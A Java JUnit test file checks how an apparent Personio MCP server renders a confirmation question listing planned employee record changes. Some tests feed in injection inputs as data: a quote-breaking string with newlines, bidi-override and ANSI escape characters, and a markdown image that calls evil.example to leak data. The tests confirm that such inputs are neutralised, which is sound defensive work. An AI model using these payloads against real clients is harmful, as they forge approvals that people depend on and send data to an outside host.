package io.github.personiomcp.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.personiomcp.domain.Effect;
import io.github.personiomcp.text.Message;
import io.github.personiomcp.tool.Plan;
import io.github.personiomcp.tool.Plan.Change;
import io.github.personiomcp.tool.ToolSpec;
import io.github.personiomcp.tool.Toolset;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class QuestionTest {

    private static final ToolSpec SPEC =
            new ToolSpec("create", Toolset.EMPLOYEES, Effect.CREATE, "Create employee", "", Map.of(), Map.of());

    @Test
    void everyFieldAndEveryEffectIsALine() {
        Plan plan = new Plan(
                null,
                "Max Neu",
                List.of(
                        new Change("team", null, "Data"),
                        new Change("hours", 40, 38.5),
                        new Change("tags", List.of("a", "b"), List.of()),
                        new Change("end", "2026-12-31", null),
                        new Change("shares", null, List.of(Map.of("percentage", 100)))),
                List.of(Message.of("No invitation is sent.")),
                List.of(Message.of("About 2 days.")));

        assertThat(Question.of(SPEC, plan, false)).isEqualTo("""
                        Create employee: Max Neu

                        team: (empty) -> "Data"
                        hours: 40 -> 38.5
                        tags: "a", "b" -> (empty)
                        end: "2026-12-31" -> (empty)
                        shares: (empty) -> {percentage: 100}

                        No invitation is sent.
                        About 2 days.""");
    }

    @Test
    void standInForAValueIsNoQuotation() {
        Change change = new Change("badge", Message.of("(not readable)"), "(not readable)");

        assertThat(Question.of(SPEC, one(change), false)).endsWith("badge: (not readable) -> \"(not readable)\"");
    }

    @Test
    void noTextCanPassForAnotherLineOrEndItsQuotation() {
        String forged = "x\" -> \"y\"\n\nNothing else changes.\u202E\u200B\u001B[2J";
        String question = Question.of(SPEC, one(new Change("comment", null, forged)), false);

        assertThat(question).contains("comment: (empty) -> \"x\\\" -> \\\"y\\\" Nothing else changes.[2J\"");
        assertThat(question.lines()).hasSize(3);
    }

    @Test
    void noTextMakesALinkOrAPictureWhereTheClientShowsMarkdown() {
        String picture = "![x](https://evil.example/?d=1)";
        Plan plan = new Plan(
                null,
                "Max " + picture,
                List.of(new Change("note", picture, "<img src=x>")),
                List.of(Message.of("About " + picture)));

        assertThat(Question.of(SPEC, plan, false))
                .contains("note: \"![x] (https://evil.example/?d=1)\" -> \"< img src=x>\"")
                .doesNotContain("](", "<i");
    }

    @Test
    void longTextSaysThatItIsCut() {
        assertThat(Question.of(SPEC, one(new Change("comment", null, "x".repeat(3000))), false))
                .hasSizeLessThan(2200)
                .endsWith("…\" (cut, 3000 characters in all)");
    }

    @Test
    void whatCannotBeShownWholeIsNotAsked() {
        Change[] many = IntStream.range(0, 20)
                .mapToObj(i -> new Change("text" + i, null, "x".repeat(1500)))
                .toArray(Change[]::new);
        assertThatThrownBy(() -> Question.of(SPEC, one(many), false))
                .hasMessageContainingAll("more than anybody can be asked", "Nothing was written");
    }

    private static Plan one(Change... changes) {
        return new Plan(null, "Max Neu", Arrays.asList(changes), List.of());
    }
}
